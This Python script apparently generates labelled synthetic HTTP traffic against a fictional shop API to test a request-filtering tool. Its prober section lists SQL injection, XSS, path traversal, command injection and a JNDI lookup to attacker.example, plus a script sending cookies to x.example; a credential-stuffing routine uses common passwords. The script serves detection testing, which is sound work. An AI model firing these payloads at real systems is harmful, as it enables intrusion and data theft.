#!/usr/bin/env python3
"""Deterministic demo traffic for `vigil replay`.

Writes one hour of exchanges against a small JSON shop API (users,
products, orders, login, search) as JSON lines: many benign clients plus
six attackers, each line labelled with its ground truth in "_actor" (the
replay summary counts decisions per label). Standard library only; the
same seed always gives byte-identical output.

    python3 examples/traffic/generate.py              # writes demo.jsonl
    python3 examples/traffic/generate.py --har        # writes sample.har
    python3 examples/traffic/generate.py -o - --seed 7

All addresses come from the documentation ranges (RFC 5737, RFC 3849)
and 10.0.0.0/8 for the reverse proxy; hosts are example.com.
"""

import argparse
import base64
import datetime as dt
import json
import os
import random
import sys
import urllib.parse

START = dt.datetime(2026, 11, 23, 9, 0, 0, tzinfo=dt.timezone.utc)
DURATION = 3600.0
HOST = "api.example.com"
PROXY_IP = "10.0.0.5"  # trusted_proxies in examples/policies/demo.json
DENIED_NET = "198.51.100."  # ip.deny in the demo policy

BROWSER_UAS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
]
APP_UAS = ["ShopApp/4.2.1 (Android 14)", "ShopApp/4.2.0 (iOS 18.1)",
           "shop-sync/1.3 (+https://partner.example.com)"]
CATEGORIES = ["books", "garden", "kitchen", "toys", "audio", "outdoor"]
WORDS = ["lamp", "kettle", "blue", "usb cable", "tent", "headphones",
         "mug", "chair", "rose", "puzzle", "café", "speaker"]
SORTS = ["price", "-price", "name", "newest"]
N_USERS = 250      # user ids 1..N_USERS exist
N_PRODUCTS = 180   # product ids 1..N_PRODUCTS exist


def iso(t):
    """RFC 3339 UTC time with milliseconds for an offset in seconds."""
    d = START + dt.timedelta(milliseconds=round(t * 1000))
    return d.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (d.microsecond // 1000)


def sku(rng):
    return "%s-%d" % (rng.choice(["ABC", "KTL", "LMP", "TNT", "AUD"]),
                      rng.randint(100, 999))


def jdump(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


class Out:
    """Collects exchanges; emitted sorted by time (ties: creation order)."""

    def __init__(self):
        self.items = []

    def add(self, t, actor, ip, method, path, query=None, headers=None,
            body=None, status=200, resp=None, latency=None, rng=None,
            resp_bytes=None):
        ex = {"ts": iso(t), "client_ip": ip, "method": method, "path": path}
        if query:
            ex["query"] = query
        ex["headers"] = headers or {}
        if body is not None:
            ex["body"] = body if isinstance(body, str) else jdump(body)
        rbody = jdump(resp) if resp is not None else ""
        r = {"status": status,
             "body": rbody,
             "bytes": resp_bytes if resp_bytes is not None else
             len(rbody.encode()),
             "latency_ms": latency if latency is not None else
             round(rng.uniform(2, 40), 1)}
        ex["response"] = r
        ex["_actor"] = actor
        self.items.append((round(t * 1000), len(self.items), ex))

    def lines(self):
        for _, _, ex in sorted(self.items, key=lambda x: (x[0], x[1])):
            yield jdump(ex)


def qs(pairs):
    return urllib.parse.urlencode(pairs, quote_via=urllib.parse.quote)


# ------------------------------------------------------------ benign users

def make_users(rng, n):
    users = []
    for i in range(n):
        uid = rng.randint(1, N_USERS)
        kind = rng.random()
        if kind < 0.45:
            cred = ("X-API-Key", "demo_live_%024x" % rng.getrandbits(96))
            ua = rng.choice(APP_UAS)
        elif kind < 0.85:
            cred = ("Authorization", "Bearer tok_%032x" % rng.getrandbits(128))
            ua = rng.choice(BROWSER_UAS)
        else:
            cred = ("Cookie", "session=s%024x; theme=dark" % rng.getrandbits(96))
            ua = rng.choice(BROWSER_UAS)
        if rng.random() < 0.2:
            ip, xff = PROXY_IP, "192.0.2.%d" % rng.randint(10, 200)
        elif rng.random() < 0.25:
            ip, xff = "2001:db8:%x:%x::%x" % (rng.randint(1, 0xfff),
                                               rng.randint(1, 0xffff),
                                               rng.randint(1, 0xff)), None
        else:
            ip, xff = "192.0.2.%d" % rng.randint(10, 200), None
        # A few heavy but well-behaved clients (sync jobs, busy shoppers).
        rate = rng.choice([15, 25, 35, 45]) if i >= 4 else 130
        users.append({"uid": uid, "cred": cred, "ua": ua, "ip": ip,
                      "xff": xff, "requests": rate, "name": "user%d" % uid})
    return users


def benign_headers(u, post=False):
    h = {"Host": HOST, "User-Agent": u["ua"], "Accept": "application/json",
         u["cred"][0]: u["cred"][1]}
    if u["xff"]:
        h["X-Forwarded-For"] = u["xff"]
    if post:
        h["Content-Type"] = "application/json"
    return h


def product(pid, rng):
    return {"id": pid, "name": "Product %d" % pid, "price": rng.randint(199, 9999),
            "category": CATEGORIES[pid % len(CATEGORIES)]}


def benign(out, rng, users):
    for u in users:
        t = rng.uniform(0, 300)
        done = 0
        while done < u["requests"] and t < DURATION - 5:
            # A session: a handful of requests a few seconds apart.
            for _ in range(rng.randint(3, 9)):
                r = rng.random()
                ip = u["ip"]
                if r < 0.30:
                    pairs = [("category", rng.choice(CATEGORIES)),
                             ("page", str(rng.randint(1, 5)))]
                    if rng.random() < 0.4:
                        pairs.append(("sort", rng.choice(SORTS)))
                    if rng.random() < 0.3:
                        pairs.append(("limit", str(rng.choice([10, 20, 50]))))
                    items = [product(rng.randint(1, N_PRODUCTS), rng)
                             for _ in range(2)]
                    out.add(t, "benign", ip, "GET", "/api/v1/products", qs(pairs),
                            benign_headers(u), status=200,
                            resp={"items": items, "more": True},
                            resp_bytes=rng.randint(2500, 9000), rng=rng)
                elif r < 0.55:
                    pid = rng.randint(1, N_PRODUCTS + 8)
                    if pid <= N_PRODUCTS:
                        out.add(t, "benign", ip, "GET", "/api/v1/products/%d" % pid,
                                None, benign_headers(u), status=200,
                                resp=product(pid, rng), rng=rng)
                    else:  # stale link: an honest 404
                        out.add(t, "benign", ip, "GET", "/api/v1/products/%d" % pid,
                                None, benign_headers(u), status=404,
                                resp={"error": "not found"}, rng=rng)
                elif r < 0.70:
                    pairs = [("q", rng.choice(WORDS))]
                    if rng.random() < 0.3:
                        pairs.append(("page", "2"))
                    out.add(t, "benign", ip, "GET", "/api/v1/search", qs(pairs),
                            benign_headers(u), status=200,
                            resp={"hits": rng.randint(0, 40)},
                            latency=round(rng.uniform(15, 120), 1), rng=rng)
                elif r < 0.80:
                    q = qs([("fields", "name,email")]) if rng.random() < 0.3 else None
                    out.add(t, "benign", ip, "GET", "/api/v1/users/%d" % u["uid"], q,
                            benign_headers(u), status=200,
                            resp={"id": u["uid"], "name": u["name"],
                                  "email": "%s@example.com" % u["name"]}, rng=rng)
                elif r < 0.90:
                    body = {"sku": sku(rng), "qty": rng.randint(1, 5)}
                    oid = rng.randint(1000, 99999)
                    out.add(t, "benign", ip, "POST", "/api/v1/orders", None,
                            benign_headers(u, post=True), body=body, status=201,
                            resp={"id": oid, "status": "placed"},
                            latency=round(rng.uniform(30, 180), 1), rng=rng)
                elif r < 0.96:
                    pairs = [("status", rng.choice(["placed", "shipped"]))]
                    out.add(t, "benign", ip, "GET", "/api/v1/orders", qs(pairs),
                            benign_headers(u), status=200,
                            resp={"items": [], "more": False}, rng=rng)
                else:
                    # Logging in again; now and then a typo first.
                    h = benign_headers(u, post=True)
                    del h[u["cred"][0]]
                    if rng.random() < 0.25:
                        out.add(t, "benign", ip, "POST", "/api/v1/login", None, h,
                                body={"username": u["name"], "password": "typo"},
                                status=401, resp={"error": "invalid credentials"},
                                latency=round(rng.uniform(80, 200), 1), rng=rng)
                        t += rng.uniform(3, 8)
                    out.add(t, "benign", ip, "POST", "/api/v1/login", None, h,
                            body={"username": u["name"],
                                  "password": "correct horse %d" % u["uid"]},
                            status=200, resp={"token": "tok_%016x" % rng.getrandbits(64)},
                            latency=round(rng.uniform(80, 200), 1), rng=rng)
                done += 1
                t += rng.uniform(0.3, 6)
            t += rng.expovariate(1.0 / (DURATION / max(1, u["requests"] / 6)))
    # Unauthenticated health checks from the load balancer.
    t = 1.0
    while t < DURATION:
        out.add(t, "benign", PROXY_IP, "GET", "/health", None,
                {"Host": HOST, "User-Agent": "lb-healthcheck/1.0"}, status=200,
                resp={"ok": True}, latency=0.4, rng=rng)
        t += 30.0


# -------------------------------------------------------------- attackers

def prober(out, rng):
    """SQLi / XSS / traversal probes in queries, paths and JSON bodies."""
    ip = "203.0.113.66"
    h = {"Host": HOST, "User-Agent": "Mozilla/5.0 (compatible; scan/0.9)",
         "Accept": "*/*", "X-API-Key": "demo_live_%024x" % rng.getrandbits(96)}
    payloads = [
        ("search", "q", "' OR '1'='1"),
        ("search", "q", "1' UNION SELECT username, password FROM users--"),
        ("search", "q", "<script>alert(document.cookie)</script>"),
        ("search", "q", "\"><img src=x onerror=alert(1)>"),
        ("search", "q", "1; DROP TABLE orders; --"),
        ("search", "q", "admin'--"),
        ("search", "q", "javascript:alert(1)"),
        ("search", "q", "<svg/onload=alert('x')>"),
        ("products", "category", "books' AND SLEEP(5)--"),
        ("products", "category", "../../../../etc/passwd"),
        ("products", "sort", "price;SELECT pg_sleep(5)"),
        ("products", "category", "..%2f..%2f..%2fetc%2fshadow"),
        ("users", "fields", "name,(SELECT password FROM users LIMIT 1)"),
        ("search", "q", "{{7*7}}"),
        ("search", "q", "${jndi:ldap://attacker.example/a}"),
        ("search", "q", "| cat /etc/passwd"),
    ]
    paths = ["/api/v1/products/1%20OR%201=1", "/api/v1/products/..%2F..%2Fetc%2Fpasswd",
             "/api/v1/users/1'--", "/api/v1/../../etc/passwd",
             "/api/v1/products/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
             "/.env", "/wp-login.php", "/api/v1/admin/users", "/.git/config"]
    bodies = [{"sku": "ABC-100' OR 1=1--", "qty": 1},
              {"sku": "ABC-100", "qty": 1, "note": "<script>fetch('//x.example/'+document.cookie)</script>"},
              {"sku": "../../etc/passwd", "qty": 1},
              {"sku": "ABC-100", "qty": "1 UNION SELECT 1,2,3"}]
    t = rng.uniform(900, 1000)
    for rnd in range(4):
        for where, name, value in payloads:
            path = {"search": "/api/v1/search", "products": "/api/v1/products",
                    "users": "/api/v1/users/7"}[where]
            out.add(t, "prober", ip, "GET", path, qs([(name, value)]), dict(h),
                    status=rng.choice([200, 400, 500]),
                    resp={"error": "bad request"}, rng=rng)
            t += rng.uniform(0.5, 4)
        for p in paths:
            out.add(t, "prober", ip, "GET", p, None, dict(h),
                    status=rng.choice([400, 404]), resp={"error": "not found"}, rng=rng)
            t += rng.uniform(0.5, 4)
        for b in bodies:
            hh = dict(h)
            hh["Content-Type"] = "application/json"
            out.add(t, "prober", ip, "POST", "/api/v1/orders", None, hh, body=b,
                    status=rng.choice([400, 500]), resp={"error": "bad request"}, rng=rng)
            t += rng.uniform(0.5, 4)
        t += rng.uniform(60, 240)


def flooder(out, rng):
    """One API key hammering the catalogue far above 120 requests/minute."""
    ip = "203.0.113.80"
    h = {"Host": HOST, "User-Agent": "Go-http-client/1.1", "Accept": "application/json",
         "X-API-Key": "demo_live_%024x" % rng.getrandbits(96)}
    t = rng.uniform(1500, 1600)
    for i in range(520):
        out.add(t, "flooder", ip, "GET", "/api/v1/products",
                qs([("page", str(i % 40 + 1)), ("limit", "50")]), dict(h), status=200,
                resp={"items": [], "more": True}, resp_bytes=rng.randint(8000, 12000),
                rng=rng)
        t += rng.uniform(0.05, 0.25)


def enumerator(out, rng):
    """Walks /api/v1/users/{id} in order (BOLA probing): mostly 403/404."""
    ip = "203.0.113.101"
    h = {"Host": HOST, "User-Agent": rng.choice(BROWSER_UAS),
         "Accept": "application/json",
         "Authorization": "Bearer tok_%032x" % rng.getrandbits(128)}
    t = rng.uniform(2200, 2300)
    for uid in range(1, 301):
        if uid > N_USERS:
            st, body = 404, {"error": "not found"}
        elif rng.random() < 0.25:
            st, body = 200, {"id": uid, "name": "user%d" % uid,
                             "email": "user%d@example.com" % uid}
        else:
            st, body = 403, {"error": "forbidden"}
        out.add(t, "enumerator", ip, "GET", "/api/v1/users/%d" % uid, None, dict(h),
                status=st, resp=body, rng=rng)
        t += rng.uniform(0.4, 1.2)


def denied(out, rng):
    """Ordinary-looking requests from the denied range."""
    t = rng.uniform(100, 400)
    h = {"Host": HOST, "User-Agent": "curl/8.5.0", "Accept": "*/*"}
    for i in range(40):
        ip = DENIED_NET + str(rng.choice([23, 24, 57]))
        if i % 3 == 0:
            out.add(t, "denied_ip", ip, "GET", "/api/v1/search", qs([("q", "lamp")]),
                    dict(h), status=200, resp={"hits": 3}, rng=rng)
        else:
            pid = rng.randint(1, N_PRODUCTS)
            out.add(t, "denied_ip", ip, "GET", "/api/v1/products/%d" % pid, None,
                    dict(h), status=200, resp=product(pid, rng), rng=rng)
        t += rng.uniform(20, 90)


def schema_violator(out, rng):
    """A client sending bodies and parameters outside the API contract."""
    ip = "192.0.2.250"
    h = {"Host": HOST, "User-Agent": "integration-test/0.1", "Accept": "application/json",
         "X-API-Key": "demo_live_%024x" % rng.getrandbits(96)}
    hp = dict(h)
    hp["Content-Type"] = "application/json"
    bodies = [
        {"sku": "abc", "qty": 2},                                  # pattern
        {"sku": "ABC-123", "qty": "2"},                            # type
        {"sku": "ABC-123", "qty": 1000},                           # maximum
        {"sku": "ABC-123", "qty": 0},                              # minimum
        {"sku": "ABC-123"},                                        # required
        {"sku": "ABC-123", "qty": 1, "price": 0.01},               # additional
        {"sku": "ABC-123", "qty": 1, "is_admin": True, "discount": 100},
        [{"sku": "ABC-123", "qty": 1}],                            # type (array)
        {"sku": ["ABC-123"], "qty": 1.5},
        {"sku": "ABC-123-" + "X" * 40, "qty": 1},                  # pattern length
    ]
    t = rng.uniform(600, 700)
    for rnd in range(5):
        for b in bodies:
            out.add(t, "schema_violator", ip, "POST", "/api/v1/orders", None, dict(hp),
                    body=b, status=rng.choice([400, 422, 201]),
                    resp={"error": "validation failed"}, rng=rng)
            t += rng.uniform(2, 15)
        out.add(t, "schema_violator", ip, "POST", "/api/v1/orders", None, dict(hp),
                body="{\"sku\": \"ABC-123\", \"qty\": 1", status=400,
                resp={"error": "invalid JSON"}, rng=rng)                # broken JSON
        t += rng.uniform(2, 15)
        for p, q in [("/api/v1/users/abc", None), ("/api/v1/users/0", None),
                     ("/api/v1/users/-5", None),
                     ("/api/v1/users/12", qs([("fields", "name"), ("debug", "1")])),
                     ("/api/v1/users/12", qs([("fields", "x" * 100)])),
                     ("/api/v1/products", qs([("page", "0"), ("limit", "5000")]))]:
            out.add(t, "schema_violator", ip, "GET", p, q, dict(h),
                    status=rng.choice([400, 404]), resp={"error": "bad request"}, rng=rng)
            t += rng.uniform(2, 15)
        t += rng.uniform(120, 400)
    # Two oversized order bodies (over max_body_bytes 65536).
    for n in (70000, 80000):
        big = {"sku": "ABC-123", "qty": 1, "note": "A" * n}
        out.add(t, "schema_violator", ip, "POST", "/api/v1/orders", None, dict(hp),
                body=big, status=413, resp={"error": "too large"}, rng=rng)
        t += rng.uniform(5, 20)
    # A PUT on a route that only has POST/GET.
    out.add(t, "schema_violator", ip, "PUT", "/api/v1/orders", None, dict(hp),
            body={"sku": "ABC-123", "qty": 1}, status=405,
            resp={"error": "method not allowed"}, rng=rng)


def stuffer(out, rng):
    """Credential stuffing on /api/v1/login from rotating addresses."""
    names = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
             "ivan", "judy", "mallory", "niaj", "olivia", "peggy", "rupert",
             "sybil", "trent", "victor", "walter", "admin", "root", "test"]
    pwds = ["123456", "password", "qwerty", "letmein", "Summer2026!", "iloveyou",
            "admin", "welcome1", "dragon", "monkey"]
    t = rng.uniform(2600, 2700)
    for i in range(320):
        if rng.random() < 0.6:
            ip = "2001:db8:bad:%x::%x" % (rng.randint(1, 0xffff), rng.randint(1, 0xffff))
        else:
            ip = "203.0.113.%d" % rng.randint(150, 199)
        h = {"Host": HOST, "User-Agent": "python-requests/2.32.3", "Accept": "*/*",
             "Content-Type": "application/json"}
        user = "%s%s@example.com" % (rng.choice(names), rng.choice(["", "1", "84", "_x"]))
        ok = rng.random() < 0.01
        out.add(t, "credential_stuffer", ip, "POST", "/api/v1/login", None, h,
                body={"username": user, "password": rng.choice(pwds)},
                status=200 if ok else 401,
                resp={"token": "tok_%016x" % rng.getrandbits(64)} if ok
                else {"error": "invalid credentials"},
                latency=round(rng.uniform(80, 220), 1), rng=rng)
        t += rng.uniform(0.5, 4)


def demo(seed):
    rng = random.Random(seed)
    out = Out()
    users = make_users(rng, 56)
    benign(out, rng, users)
    prober(out, rng)
    flooder(out, rng)
    enumerator(out, rng)
    denied(out, rng)
    schema_violator(out, rng)
    stuffer(out, rng)
    return out.lines()


# -------------------------------------------------------------------- HAR

def har(seed):
    """A small HAR 1.2 log exercising the reader: absolute URLs, postData,
    base64 content, HTTP/2 pseudo-headers, a custom _clientIP and an
    aborted request (status 0)."""
    rng = random.Random(seed)
    key = "demo_live_%024x" % rng.getrandbits(96)

    def hdrs(d):
        return [{"name": k, "value": v} for k, v in d.items()]

    def entry(t, method, url, req_headers, status, body="", post=None,
              b64=False, extra=None):
        u = urllib.parse.urlsplit(url)
        e = {
            "startedDateTime": iso(t).replace("Z", "+00:00"),
            "time": round(rng.uniform(5, 60), 3),
            "request": {
                "method": method, "url": url, "httpVersion": "HTTP/2",
                "cookies": [], "headers": hdrs(req_headers),
                "queryString": [{"name": k, "value": v}
                                for k, v in urllib.parse.parse_qsl(u.query)],
                "headersSize": -1, "bodySize": len(post or ""),
            },
            "response": {
                "status": status, "statusText": "", "httpVersion": "HTTP/2",
                "cookies": [], "headers": hdrs({"content-type": "application/json"}),
                "content": {"size": len(body), "mimeType": "application/json"},
                "redirectURL": "", "headersSize": -1, "bodySize": len(body),
            },
            "cache": {}, "timings": {"send": 0, "wait": 10, "receive": 1},
        }
        if post is not None:
            e["request"]["postData"] = {"mimeType": "application/json", "text": post}
        if b64:
            e["response"]["content"]["text"] = base64.b64encode(body.encode()).decode()
            e["response"]["content"]["encoding"] = "base64"
        elif body:
            e["response"]["content"]["text"] = body
        if extra:
            e.update(extra)
        return e

    base = "https://%s" % HOST
    std = {":authority": HOST, "user-agent": BROWSER_UAS[0],
           "accept": "application/json", "x-api-key": key}
    entries = [
        entry(0.0, "GET", base + "/api/v1/products?category=books&page=1", std, 200,
              body='{"items":[],"more":false}'),
        entry(1.5, "GET", base + "/api/v1/users/42", std, 200,
              body='{"id":42,"name":"user42"}', b64=True),
        entry(3.0, "POST", base + "/api/v1/orders",
              dict(std, **{"content-type": "application/json"}), 201,
              body='{"id":1001}', post='{"sku":"ABC-123","qty":2}'),
        entry(4.2, "GET", base + "/api/v1/search?q=%27%20OR%20%271%27%3D%271", std, 400,
              body='{"error":"bad request"}', extra={"_clientIP": "203.0.113.66"}),
        entry(5.0, "GET", base + "/api/v1/search?q=lamp#results", std, 0,
              extra={"_clientIP": "192.0.2.10"}),
        entry(6.1, "POST", base + "/api/v1/orders",
              dict(std, **{"content-type": "application/json"}), 400,
              body='{"error":"validation failed"}', post='{"sku":"abc","qty":1000}'),
    ]
    return {"log": {"version": "1.2",
                    "creator": {"name": "vigil generate.py", "version": "1"},
                    "pages": [], "entries": entries}}


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--seed", type=int, default=20261123)
    ap.add_argument("--har", action="store_true", help="write the HAR sample")
    ap.add_argument("-o", "--output", help="output file, '-' for stdout")
    a = ap.parse_args()
    if a.har:
        path = a.output or os.path.join(here, "sample.har")
        text = json.dumps(har(a.seed), indent=2, ensure_ascii=False) + "\n"
    else:
        path = a.output or os.path.join(here, "demo.jsonl")
        text = "".join(line + "\n" for line in demo(a.seed))
    if path == "-":
        sys.stdout.write(text)
    else:
        with open(path, "w", encoding="utf-8", newline="\n") as f:
            f.write(text)


if __name__ == "__main__":
    main()
